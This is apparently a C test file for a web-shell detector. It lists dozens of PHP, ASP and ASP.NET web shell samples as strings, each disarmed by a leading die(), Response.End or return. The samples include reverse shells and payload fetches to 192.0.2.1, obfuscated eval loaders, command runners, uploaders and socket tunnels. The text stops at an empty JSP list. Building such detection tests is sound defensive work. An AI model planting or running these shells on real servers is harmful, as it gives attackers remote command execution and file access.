/* test_script_shells.c - whole scripts with the structure of web shells. None of them runs: the
 * first statement ends most of them, and none has a server to run in. */
#include "scan/script_judge.h"
#include "testkit.h"

#include <stdio.h>

static const char *const php_files[] = {
    ("<?php die();\n"
     "set_time_limit(0); $ip=\"192.0.2.1\"; $port=4444; $shell=\"uname -a; w; id; /bin/sh "
     "-i\"; $sock=fsockopen($ip,$port,$e,$s,30); $d=array(0=>array(\"pipe\",\"r\"),1=>arra"
     "y(\"pipe\",\"w\"),2=>array(\"pipe\",\"w\")); $process=proc_open($shell,$d,$pipes); w"
     "hile(1){ $read_a=array($sock,$pipes[1]); $n=stream_select($read_a,$w,$e,null); if(in"
     "_array($sock,$read_a)){ $input=fread($sock,1400); fwrite($pipes[0],$input);} if(in_a"
     "rray($pipes[1],$read_a)){ fwrite($sock,fread($pipes[1],1400)); } }\n"
     "?>"),
    "<?php die();\n"
    "exec(\"/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'\");\n"
    "?>",
    ("<?php die();\n"
     "$target=$_GET[\"target\"]; $port=(int)$_GET[\"port\"]; $s=fsockopen($target,$port); "
     "if(!$s) die(); fwrite($s, file_get_contents(\"php://input\")); while(!feof($s)) echo"
     " fread($s,1024);\n"
     "?>"),
    "<?php die();\n"
    "if($_SERVER[\"REQUEST_METHOD\"]===\"POST\"){ $cmd=getallheaders()[\"X-CMD\"]; switch"
    "($cmd){ case \"CONNECT\": { $t=getallheaders()[\"X-TARGET\"]; $p=(int)getallheaders("
    ")[\"X-PORT\"]; $sock=socket_create(AF_INET,SOCK_STREAM,SOL_TCP); $res=socket_connect"
    "($sock,$t,$p); } case \"FORWARD\": { $raw=file_get_contents(\"php://input\"); socket"
    "_write($sock,$raw,strlen($raw)); } } }\n"
    "?>",
    ("<?php die();\n"
     "$files=@$_FILES[\"files\"]; if($files[\"name\"]!=\"\"){ $full=$_REQUEST[\"path\"].$f"
     "iles[\"name\"]; if(move_uploaded_file($files[\"tmp_name\"],$full)) echo \"ok $full\""
     "; } echo \"<form method=POST enctype=multipart/form-data><input type=file name=files"
     "></form>\";\n"
     "?>"),
    "<?php die();\n"
    "$n=basename($_FILES[\"u\"][\"name\"]); if(@copy($_FILES[\"u\"][\"tmp_name\"], $n)){e"
    "cho \"<b>done</b>\";} \n"
    "?>",
    ("<?php die();\n"
     "$auth_pass=\"63a9f0ea7bb98050796b649e85481845\"; $default_action=\"FilesMan\"; preg_"
     "replace(\"/.*/e\",\"\\x65\\x76\\x61\\x6C\\x28\\x67\\x7A\\x69\\x6E\\x66\\x6C\\x61\\x7"
     "4\\x65\\x28\\x62\\x61\\x73\\x65\\x36\\x34\",\".\");\n"
     "?>"),
    "<?php die();\n"
    "$code=\"a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
    "a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2\"; eval(gzinflate(base64_decode"
    "($code)));\n"
    "?>",
    ("<?php die();\n"
     "$x=\"a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B"
     "2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2\"; function d($s){ $r=\"\"; for($i"
     "=0;$i<strlen($s);$i++) $r.=chr(ord($s[$i])-1); return $r; } eval(d($x));\n"
     "?>"),
    "<?php die();\n"
    "$O00OO0=urldecode(\"%6E1%7A%62%2F%6D%615%5C%76%740%6928%2D%70%78%75%71%79%2A6%6C%72%"
    "6B%64%679%5F%65%68%63%73%77%6F4%2B%6637%6A\");$O00O0O=$O00OO0{3}.$O00OO0{6}.$O00OO0{"
    "33}.$O00OO0{30};eval($O00O0O(\"JE8wTzAwMD0i\"));\n"
    "?>",
    ("<?php die();\n"
     "$_F=__FILE__;$_X=\"Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P"
     "3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P"
     "3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P"
     "3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P"
     "3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P"
     "3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3Pz48P3\";ev"
     "al(base64_decode(\"JF9YPWJhc2U2NF9kZWNvZGUoJF9YKTs=\"));\n"
     "?>"),
    "<?php die();\n"
    "$GLOBALS[\"_a\"]=Array(base64_decode(\"c3lzdGVt\"),\"x\"); function _b($i){ return $"
    "GLOBALS[\"_a\"][$i]; } $f=_b(0); $f($_POST[\"c\"]);\n"
    "?>",
    ("<?php die();\n"
     "$a=explode(\"|\",\"sys|tem\"); $f=$a[0].$a[1]; $f($_REQUEST[\"x\"]);\n"
     "?>"),
    "<?php die();\n"
    "if(isset($_POST[\"pass\"]) && md5($_POST[\"pass\"])==\"abc\"){ $code=$_POST[\"code\""
    "]; $code=stripslashes($code); eval($code); }\n"
    "?>",
    ("<?php die();\n"
     "class Shell { private $cmd; public function __construct($c){ $this->cmd=$c; } public"
     " function run(){ return shell_exec($this->cmd); } } $s=new Shell($_GET[\"c\"]); echo"
     " $s->run();\n"
     "?>"),
    "<?php die();\n"
    "$m=create_function(\"$x\",\"return eval(\".$_POST[1].\");\"); $m(1);\n"
    "?>",
    ("<?php die();\n"
     "array_walk($_POST, function($v,$k){ eval($v); });\n"
     "?>"),
    "<?php die();\n"
    "foreach($_REQUEST as $f=>$a){ $f($a); }\n"
    "?>",
    ("<?php die();\n"
     "$_REQUEST[\"a\"]($_REQUEST[\"b\"],$_REQUEST[\"c\"]);\n"
     "?>"),
    "<?php die();\n"
    "@$_=\"s\".\"s\"./*-/*-*/\"e\"./*-/*-*/\"r\"; @$_=/*-/*-*/\"a\"./*-/*-*/$_./*-/*-*/\""
    "t\"; @$_/*-/*-*/($/*-/*-*/{\"_P\"./*-/*-*/\"OS\"./*-/*-*/\"T\"}[/*-/*-*/0/*-/*-*/]);"
    "\n"
    "?>",
    ("<?php die();\n"
     "$s=@$_POST[\"s\"]; if(get_magic_quotes_gpc()) $s=stripslashes($s); $p=\"/tmp/x.php\""
     "; $h=fopen($p,\"w\"); fwrite($h,$s); fclose($h); include($p);\n"
     "?>"),
    "<?php die();\n"
    "$f=\"http://192.0.2.1/s.txt\"; $c=file_get_contents($f); file_put_contents(\"wp-x.ph"
    "p\",$c);\n"
    "?>",
    ("<?php die();\n"
     "$url=$_GET[\"url\"]; $n=$_GET[\"n\"]; copy($url,$n);\n"
     "?>"),
    "<?php die();\n"
    "$url=$_GET[\"u\"]; file_put_contents(basename($url), file_get_contents($url));\n"
    "?>",
    ("<?php die();\n"
     "if(isset($_GET[\"up\"])){echo\"<form></form>\"; if($_POST[\"_upl\"]==\"Upload\"){ if"
     "(@copy($_FILES[\"file\"][\"tmp_name\"],$_FILES[\"file\"][\"name\"])){echo \"ok\";}el"
     "se{echo \"no\";}} }\n"
     "?>"),
    "<?php die();\n"
    "$dir=$_GET[\"d\"]?$_GET[\"d\"]:getcwd(); chdir($dir); if(isset($_GET[\"del\"])) unli"
    "nk($_GET[\"del\"]); if(isset($_POST[\"save\"])) { $h=fopen($_POST[\"file\"],\"w\"); "
    "fwrite($h,$_POST[\"text\"]); } if(isset($_GET[\"ren\"])) rename($_GET[\"ren\"],$_GET"
    "[\"to\"]); foreach(scandir($dir) as $f) echo $f; if(isset($_GET[\"view\"])) echo htm"
    "lspecialchars(file_get_contents($_GET[\"view\"])); if($_GET[\"mk\"]) mkdir($_GET[\"m"
    "k\"]); if ($_GET[\"cm\"]) chmod($_GET[\"cm\"],0777);\n"
    "?>",
    ("<?php die();\n"
     "$descr=array(); $p=popen(\"cmd /c \".$_GET[\"c\"],\"r\"); while(!feof($p)) echo fget"
     "s($p);\n"
     "?>"),
    "<?php die();\n"
    "function ex($c){ $r=\"\"; if(function_exists(\"exec\")){ @exec($c,$r); $r=join(\"\\n"
    "\",$r);} elseif(function_exists(\"shell_exec\")){ $r=@shell_exec($c);} elseif(functi"
    "on_exists(\"system\")){ ob_start(); @system($c); $r=ob_get_contents(); } elseif(func"
    "tion_exists(\"passthru\")){ @passthru($c);} return $r; } echo ex($_POST[\"cmd\"]);\n"
    "?>",
    ("<?php die();\n"
     "pcntl_exec(\"/bin/sh\",array(\"-c\",$_GET[\"c\"]));\n"
     "?>"),
    "<?php die();\n"
    "$ffi=FFI::cdef(\"int system(char *command);\"); $ffi->system($_GET[\"c\"]);\n"
    "?>",
    ("<?php die();\n"
     "putenv(\"LD_PRELOAD=/tmp/x.so\"); putenv(\"EVIL=\".$_GET[\"cmd\"]); mail(\"a\",\"b\""
     ",\"c\"); echo file_get_contents(\"/tmp/out\");\n"
     "?>"),
    "<?php die();\n"
    "$c=$_GET[\"c\"]; $c=escapeshellcmd($c); system($c);\n"
    "?>",
    ("<?php die();\n"
     "mb_eregi_replace(\"a\",$_POST[\"c\"],\"a\",\"e\");\n"
     "?>"),
    "<?php die();\n"
    "echo preg_filter(\"|.*|e\",$_REQUEST[\"p\"],\"\");\n"
    "?>",
    ("<?php die();\n"
     "$e=$_REQUEST[\"e\"]; $arr=array(\"test\",$_REQUEST[\"p\"]); uasort($arr,base64_decod"
     "e($e));\n"
     "?>"),
    "<?php die();\n"
    "$e=$_REQUEST[\"e\"]; $arr=array($_POST[\"p\"],); array_filter($arr,base64_decode($e)"
    ");\n"
    "?>",
    ("<?php die();\n"
     "$x=new ReflectionFunction($_GET[\"f\"]); echo $x->invokeArgs(array($_GET[\"a\"]));\n"
     "?>"),
    "<?php die();\n"
    "$a=\"~+d()\"^\"!{+{}\"; $b=${$a}[\"k\"]; eval($b);\n"
    "?>",
    ("<?php die();\n"
     "$f=(~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"); $f($_GET[\"c\"]);\n"
     "?>"),
    "<?php die();\n"
    "session_start(); $_SESSION[\"c\"]=$_POST[\"c\"]; eval($_SESSION[\"c\"]);\n"
    "?>",
    ("<?php die();\n"
     "$s=apache_request_headers(); $s[\"User-Agent\"]; eval(base64_decode(substr($s[\"Cook"
     "ie\"],5)));\n"
     "?>"),
    "<?php die();\n"
    "$i=@exif_read_data(\"a.jpg\"); preg_replace($i[\"Make\"],$i[\"Model\"],\"\");\n"
    "?>",
    ("<?php die();\n"
     "require($_SERVER[\"DOCUMENT_ROOT\"].\"/x.jpg\");\n"
     "?>"),
    "<?php die();\n"
    "@include \"\\x2fvar\\x2fwww\\x2fhtml\\x2ffavicon_1a2b3c.ico\";\n"
    "?>",
    ("<?php die();\n"
     "$f=dirname(__FILE__).\"/.cache\"; if(file_exists($f)) eval(file_get_contents($f));\n"
     "?>"),
    "<?php die();\n"
    "if(isset($_GET[\"cmd\"])){ $c=trim($_GET[\"cmd\"]); $ssh=ssh2_connect(\"localhost\")"
    "; ssh2_exec($ssh,$c);}\n"
    "?>",
    ("<?php die();\n"
     "echo exec(base64_decode(strrev($_COOKIE[\"x\"])));\n"
     "?>"),
    "<?php die();\n"
    "list($a,$b)=explode(\":\",base64_decode($_POST[\"p\"])); $a($b);\n"
    "?>",
    ("<?php die();\n"
     "switch($_POST[\"act\"]){ case \"cmd\": $o=array(); exec($_POST[\"v\"],$o); echo impl"
     "ode(\"\\n\",$o); break; case \"ev\": eval($_POST[\"v\"]); }\n"
     "?>"),
    "<?php die();\n"
    "$fn=\"f\".rand(); eval(\"function $fn(){ {$_POST[\"c\"]} }\"); $fn();\n"
    "?>",
    ("<?php die();\n"
     "$z=\"create_\".\"function\"; $y=$z(\"\",\"\".$_POST[\"a\"]); $y();\n"
     "?>"),
    "<?php die();\n"
    "$n=null; $n.=\"b\".\"a\"; $n.=\"se\".\"64\".\"_de\".\"code\"; $s=\"gzinf\"; $s.=\"la"
    "te\"; eval($s($n(\"S03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MS"
    "S03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03M"
    "SS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03"
    "MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MSS03MS\")));\n"
    "?>",
    ("<?php die();\n"
     "print(`{$_REQUEST[\"c\"]}`);\n"
     "?>"),
    "<?php die();\n"
    "$data=json_decode(file_get_contents(\"php://input\"),true); call_user_func($data[\"f"
    "\"],$data[\"a\"]);\n"
    "?>",
    ("<?php die();\n"
     "$c=filter_input(INPUT_GET,\"c\"); system($c);\n"
     "?>"),
    "<?php die();\n"
    "$h=$_SERVER[\"HTTP_USER_AGENT\"]; if(preg_match(\"/eval:(.*)/\",$h,$m)) eval($m[1]);"
    "\n"
    "?>",
    ("<?php die();\n"
     "preg_match(\"/x(.*)x/\",$_POST[\"d\"],$m); $m[1]($_POST[\"e\"]);\n"
     "?>"),
    "<?php die();\n"
    "$a=$_GET; $b=current($a); $c=next($a); $b($c);\n"
    "?>",
    ("<?php die();\n"
     "eval(end(getallheaders()));\n"
     "?>"),
    "<?php die();\n"
    "eval(array_pop(next(get_defined_vars())));\n"
    "?>",
    ("<?php die();\n"
     "$p=array_values($_POST); $p[0]($p[1]);\n"
     "?>"),
};

static const char *const asp_files[] = {
    ("<% Response.End\n"
     "Dim objFSO,objCountFile\n"
     "Set objFSO = Server.CreateObject(\"Scripting.FileSystemObject\")\n"
     "Set objCountFile=objFSO.CreateTextFile(request(\"syfdpath\"),True)\n"
     "objCountFile.Write request(\"cyfddata\")\n"
     "objCountFile.Close\n"
     "%>"),
    "<% Response.End\n"
    "Function MorfiCoder(Code)\n"
    "MorfiCoder=Replace(Replace(StrReverse(Code),\"/*/\",\"\"\"\"),\"\\*\\\",vbCrlf)\n"
    "End Function\n"
    "Execute MorfiCoder(\")/*/z/*/(tseuqer lave\")\n"
    "%>",
    ("<% Response.End\n"
     "set ms = server.CreateObject(\"MSScriptControl.ScriptControl.1\")\n"
     "ms.Language=\"VBScript\"\n"
     "ms.AddObject \"Response\", Response\n"
     "ms.AddObject \"request\", request\n"
     "ms.ExecuteStatement(\"ev\"&\"al(request(\"\"c\"\"))\")\n"
     "%>"),
    "<% Response.End\n"
    "a=request(\"a\")\n"
    "b=\"ex\"&\"ecute(a)\"\n"
    "execute b\n"
    "%>",
    ("<% Response.End\n"
     "execute(strreverse(\")\"\"c\"\"(tseuqer lave\"))\n"
     "%>"),
    "<% Response.End\n"
    "ExeCuTe(fun(\"%167%184%163%174%98%180%167%179%183%167%181%182%106%100%163%100%107\")"
    ")\n"
    "Function fun(objstr)\n"
    "objstr = Replace(objstr, \"%\", \"\")\n"
    "fun = objstr\n"
    "For i = 1 To Len(objstr)\n"
    "fun = fun & Chr(Mid(objstr,i,3)-66)\n"
    "Next\n"
    "End Function\n"
    "%>",
    ("<% Response.End\n"
     "Function gB(a)\n"
     "Set d = CreateObject(\"Microsoft.XMLDOM\")\n"
     "Set e = d.createElement(\"b\")\n"
     "e.dataType = \"bin.base64\"\n"
     "e.text = a\n"
     "gB = e.nodeTypedValue\n"
     "End Function\n"
     "ExecuteGlobal gB(\"ZXZhbCByZXF1ZXN0KCJjIik=\")\n"
     "%>"),
    "<% Response.End\n"
    "Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\n"
    "h.open \"GET\", \"http://192.0.2.1/a.txt\", False\n"
    "h.send\n"
    "execute h.responseText\n"
    "%>",
    ("<% Response.End\n"
     "szCMD = request.form(\".CMD\")\n"
     "If (szCMD <> \"\") Then\n"
     "szTempFile = \"C:\\\" & oFileSys.GetTempName( )\n"
     "Call oScript.Run (\"cmd.exe /c \" & szCMD & \" > \" & szTempFile, 0, True)\n"
     "End If\n"
     "%>"),
    "<object runat=server id=oScriptlhn scope=page classid=\"clsid:72C24DD5-D70A-438B-8A4"
    "2-98424B88AFB8\"></object><%Response.End\n"
    "if err then\n"
    "end if\n"
    "response.write(\"x\")\n"
    "if request(\"cmd\")<>\"\" then\n"
    "response.write oScriptlhn.exec(\"cmd.exe /c\"&request(\"cmd\")).stdout.readall\n"
    "end if%>",
    ("<% Response.End\n"
     "If Request(\"MAX\")<>\"\" Then\n"
     "Set x=Server.CreateObject(\"ADODB.Stream\")\n"
     "x.Type=2\n"
     "x.Mode=3\n"
     "x.Open\n"
     "x.Charset=\"gb2312\"\n"
     "x.WriteText Request(\"data\")\n"
     "x.SaveToFile Server.MapPath(Request(\"f\")),2\n"
     "End If\n"
     "%>"),
    "<% Response.End\n"
    "Sub U()\n"
    "formsize=Request.TotalBytes\n"
    "formdata=Request.BinaryRead(formsize)\n"
    "set s = server.createobject(\"adodb.stream\")\n"
    "s.type=1\n"
    "s.open\n"
    "s.write formdata\n"
    "s.savetofile server.mappath(\"x.asp\"),2\n"
    "End Sub\n"
    "U\n"
    "%>",
    ("<% Response.End\n"
     "Set Conn = Server.CreateObject(\"ADODB.Connection\")\n"
     "Conn.Open \"Driver={SQL Server};Server=.;UID=sa\"\n"
     "Set rs = Conn.Execute(\"exec master.dbo.xp_cmdshell '\" & Request(\"c\") & \"'\")\n"
     "%>"),
    "<% Response.End\n"
    "Session(\"b\")=Request(\"b\")\n"
    "If Session(\"b\")<>\"\" Then Execute Session(\"b\")\n"
    "%>",
    ("<% Response.End\n"
     "for each i in request.form\n"
     "execute request.form(i)\n"
     "next\n"
     "%>"),
    "<% Response.End\n"
    "<!--#include file=\"x\"-->\n"
    "select case request(\"act\")\n"
    "case \"e\"\n"
    "execute request(\"v\")\n"
    "end select\n"
    "%>",
    ("<% Response.End\n"
     "dim play\n"
     "play = request(\"p\")\n"
     "if play <> \"\" then\n"
     "  execute(play)\n"
     "end if\n"
     "%>"),
    "<% Response.End\n"
    "eval (eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))(\"c\"))\n"
    "%>",
    ("<% Response.End\n"
     "Y=request(\"x\") : eval Y\n"
     "%>"),
    "<% Response.End\n"
    "password=\"1\"\n"
    "if request.cookies(\"p\")=password then\n"
    "set sh=createobject(\"shell.application\")\n"
    "set f=sh.namespace(request(\"d\"))\n"
    "sh.shellexecute request(\"e\"),request(\"a\"),\"\",\"open\",0\n"
    "end if\n"
    "%>",
    ("<% Response.End\n"
     "Set fso=CreateObject(\"Scripting.FileSystemObject\")\n"
     "if request(\"del\")<>\"\" then fso.DeleteFile request(\"del\")\n"
     "if request(\"cp\")<>\"\" then fso.CopyFile request(\"cp\"),request(\"to\")\n"
     "Set f=fso.OpenTextFile(request(\"e\"))\n"
     "response.write f.readall\n"
     "set w=fso.opentextfile(request(\"f\"),2,true)\n"
     "w.write request(\"t\")\n"
     "%>"),
    "<%@ LANGUAGE = VBScript.Encode %>\n"
    "<%#@~^HgAAAA==@#@&DnkwW/ c2 O@#@&n6mEY~M+5;+kYvE^r#@#@&XgkAAA==^#~@%>",
    ("<SCRIPT RUNAT=\"SERVER\" LANGUAGE=\"JAVASCRIPT\">Response.End(); var a=Request.form("
     "\"a\"); eval(a+\"\");</SCRIPT>"),
    "<script language=vbscript runat=server>\n"
    "Response.End\n"
    "execute request(\"l\")\n"
    "</script>",
    ("<script language=\"VBScript\" runat=\"server\">if request(\"v\")<>\"\" then\n"
     "Response.End\n"
     "execute(request(\"v\"))\n"
     "end if</script>"),
    "\303\257\302\273\302\277GIF89a<%Response.End%><%eval(request(\"c\"))%>",
    ("<!--<% Response.End\n"
     "execute(request(\"value\")) %>-->"),
};

static const char *const net_files[] = {
    ("<%@ Page Language=\"C#\" %>\n"
     "<script runat=\"server\">\n"
     "void Page_Load(object s, EventArgs e){ Response.End(); } string ExcuteCmd(string arg"
     "){ ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = \"cmd.exe\"; psi.Ar"
     "guments = \"/c \"+arg; psi.RedirectStandardOutput = true; psi.UseShellExecute = fals"
     "e; Process p = Process.Start(psi); StreamReader stmrdr = p.StandardOutput; string s "
     "= stmrdr.ReadToEnd(); return s; } void cmdExe_Click(object sender, System.EventArgs "
     "e){ Response.Write(Server.HtmlEncode(ExcuteCmd(txtArg.Text))); }\n"
     "</script>"),
    "<%@ Page Language=\"VB\" %><script runat=\"server\">\n"
    "Sub RunCmd(Src As Object, E As EventArgs)\n"
    "Response.End\n"
    "Dim myProcess As New Process()\n"
    "Dim myProcessStartInfo As New ProcessStartInfo(xpath.Text)\n"
    "myProcessStartInfo.UseShellExecute = False\n"
    "myProcessStartInfo.Arguments=xcmd.Text\n"
    "myProcess.StartInfo = myProcessStartInfo\n"
    "myProcess.Start()\n"
    "End Sub\n"
    "</script>",
    ("<%@ WebHandler Language=\"C#\" Class=\"H\" %>\n"
     "using System; using System.Web; using System.IO;\n"
     "public class H : IHttpHandler { public void ProcessRequest(HttpContext context){ ret"
     "urn; context.Response.ContentType=\"text/plain\"; StreamWriter f=File.CreateText(con"
     "text.Server.MapPath(\"x.aspx\")); f.Write(\"<%@ Page Language=\\\"Jscript\\\"%><%eva"
     "l(Request.Item[\\\"p\\\"],\\\"unsafe\\\");%>\"); f.Flush(); f.Close(); } public bool"
     " IsReusable{get{return false;}} }"),
    "<%@ WebHandler Language=\"C#\" class=\"Handler\" %>\n"
    "public class Handler : System.Web.IHttpHandler { public void ProcessRequest(System.W"
    "eb.HttpContext ctx){ return; var c = ctx.Request[\"c\"]; var p = System.Diagnostics."
    "Process.Start(\"cmd.exe\", \"/c \" + c); } }",
    ("<%@ Page Language=\"C#\" %>\n"
     "<% Response.End();\n"
     "string c = Request[\"c\"]; Process p = new Process(); p.StartInfo.FileName = c; p.St"
     "art();\n"
     "%>"),
    "<%@ Page Language=\"C#\" %>\n"
    "<% Response.End();\n"
    "if (Request[\"k\"] != null) { Session.Add(\"k\", Guid.NewGuid().ToString().Replace(\""
    "-\", \"\").Substring(16)); Response.Write(Session[0]); return; } byte[] k = Encoding"
    ".Default.GetBytes(Session[0] + \"\"), c = Request.BinaryRead(Request.ContentLength);"
    " Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k,"
    " k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\").Equals(this);\n"
    "%>",
    ("<%@ Page Language=\"C#\" %>\n"
     "<% Response.End();\n"
     "byte[] data = Convert.FromBase64String(Context.Request[\"pass\"]); data = new System"
     ".Security.Cryptography.RijndaelManaged().CreateDecryptor(a, a).TransformFinalBlock(d"
     "ata, 0, data.Length); if (Context.Session[\"payload\"] == null) { Context.Session[\""
     "payload\"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMetho"
     "d(\"Load\", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }"
     "); } else { object o = ((System.Reflection.Assembly)Context.Session[\"payload\"]).Cr"
     "eateInstance(\"LY\"); o.Equals(Context); }\n"
     "%>"),
    "<%@ Page Language=\"C#\" %>\n"
    "<% Response.End();\n"
    "CSharpCodeProvider p = new CSharpCodeProvider(); CompilerParameters cp = new Compile"
    "rParameters(); cp.GenerateInMemory = true; CompilerResults r = p.CompileAssemblyFrom"
    "Source(cp, Request[\"code\"]); r.CompiledAssembly.GetType(\"X\").GetMethod(\"Y\").In"
    "voke(null, null);\n"
    "%>",
    ("<%@ Page Language=\"C#\" %>\n"
     "<% Response.End();\n"
     "HttpPostedFile f = Request.Files[\"f\"]; f.SaveAs(Server.MapPath(\".\") + \"\\\\\" +"
     " f.FileName);\n"
     "%>"),
    "<%@ Page Language=\"C#\" %>\n"
    "<script runat=\"server\">\n"
    "protected void B_Click(object s, EventArgs e){ return; FileUpload1.SaveAs(TextBox1.T"
    "ext + FileUpload1.FileName); }\n"
    "</script>",
    ("<%@ Page Language=\"C#\" %>\n"
     "<script runat=\"server\">\n"
     "protected void B_Click(object s, EventArgs e){ return; StreamWriter w = new StreamWr"
     "iter(TextBox1.Text, false, Encoding.Default); w.Write(TextBox2.Text); w.Close(); }\n"
     "</script>"),
    "<%@ Page Language=\"C#\" %>\n"
    "<script runat=\"server\">\n"
    "void Page_Load(){ return; string c = Request.Headers[\"X-C\"]; var si = new System.D"
    "iagnostics.ProcessStartInfo { FileName = \"powershell.exe\", Arguments = \"-enc \" +"
    " c }; System.Diagnostics.Process.Start(si); }\n"
    "</script>",
    ("<%@ Page Language=\"C#\" %>\n"
     "<% Response.End();\n"
     "TcpClient t = new TcpClient(); t.Connect(Request.QueryString[\"target\"], int.Parse("
     "Request.QueryString[\"port\"]));\n"
     "%>"),
    "<%@ Page Language=\"C#\" %>\n"
    "<% Response.End();\n"
    "string cmd = Request.QueryString.Get(\"cmd\").ToUpper(); if (cmd == \"CONNECT\") { s"
    "tring target = Request.QueryString.Get(\"target\").ToUpper(); IPAddress ip = IPAddre"
    "ss.Parse(target); System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, 80); Socket se"
    "nder = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); "
    "sender.Connect(remoteEP); Session.Add(\"socket\", sender); }\n"
    "%>",
    ("<%@ Page Language=\"Jscript\"%><%Response.End();eval(Request.Item[\"p\"],\"unsafe\")"
     ";%>"),
    "<%@ Page Language=\"Jscript\" Debug=true%><%Response.End();var a=\"un\";var b=\"safe"
    "\";var c=a+b;var d=Request.Item[\"p\"];eval(d,c);%>",
    ("<%@ Page Language=\"JScript\" %><%Response.End();var PAY:String=Request[\"\\x61\"];e"
     "val(PAY,\"\\x75\\x6E\\x73\\x61\\x66\\x65\");%>"),
    "<%@ WebService LANGUAGE=\"C#\" class=\"S\" %>\n"
    "public class S : WebService { [WebMethod] public string exec(string cmd){ return \"\""
    "; Process p = new Process(); p.StartInfo.FileName=\"cmd.exe\"; p.StartInfo.Arguments"
    "=\"/c \"+cmd; p.Start(); return p.StandardOutput.ReadToEnd(); } }",
    ("<%@ WebService Language=\"C#\" Class=\"S\" %>\n"
     "public class S : System.Web.Services.WebService { [System.Web.Services.WebMethod] pu"
     "blic void X(){ return; System.Reflection.Assembly.Load(System.Convert.FromBase64Stri"
     "ng(System.Web.HttpContext.Current.Request[\"a\"])); } }"),
};

static const char *const jsp_files[] = {
